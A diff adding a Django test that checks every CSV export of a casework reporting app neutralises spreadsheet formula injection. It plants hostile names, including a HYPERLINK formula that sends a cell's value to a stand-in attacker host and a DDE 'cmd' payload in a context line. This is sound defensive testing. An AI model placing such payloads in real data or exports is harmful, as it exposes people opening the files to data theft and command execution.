@@ -593,6 +593,37 @@ def test_csv_download_of_a_table_with_a_hostile_group_name(client, manager, outc
     assert rows[1] == ["'=cmd|' /C calc'!A0", "2"]
 
 
+def test_no_csv_of_any_report_starts_a_cell_with_a_formula(client, manager, adviser, outcomes):
+    """Issue 13: every CSV the desk offers (each table of each report), with hostile names
+    wherever people write them: the group, the adviser, the team."""
+    from casework.reports.export import FORMULA_STARTS
+    from casework.reports.registry import REPORTS
+
+    outcomes["org"].name = '=HYPERLINK("http://evil.example/"&A1,"Click")'
+    outcomes["org"].save()
+    adviser.user.first_name, adviser.user.last_name = "+SUM(1,2)", "@risk"
+    adviser.user.save()
+    adviser.teams.update(name="-2+3")
+    client.force_login(manager.user)
+    query = period_query()
+    checked, cells = 0, set()
+    for name in REPORTS:
+        report = client.get(reverse("reports:report", args=[name]), query).context["report"]
+        for table in report.tables:
+            response = client.get(reverse("reports:csv", args=[name, table.key]), query)
+            assert response.status_code == 200, (name, table.key)
+            for row in csv.reader(io.StringIO(response.content.decode())):
+                for cell in row:
+                    is_number = cell.lstrip("-").replace(".", "", 1).isdigit()
+                    assert is_number or not cell.startswith(FORMULA_STARTS), (name, table.key, cell)
+                    cells.add(cell)
+            checked += 1
+    assert checked >= 8  # every report's tables were exported
+    # The hostile names did reach the exports, neutralised.
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
+    assert any(c.startswith("'+SUM(1,2)") for c in cells)
+
+
 def test_board_pdf_reads_back_with_title_and_figures(client, manager, outcomes):
     client.force_login(manager.user)
     response = client.get(reverse("reports:board_pdf"), period_query())
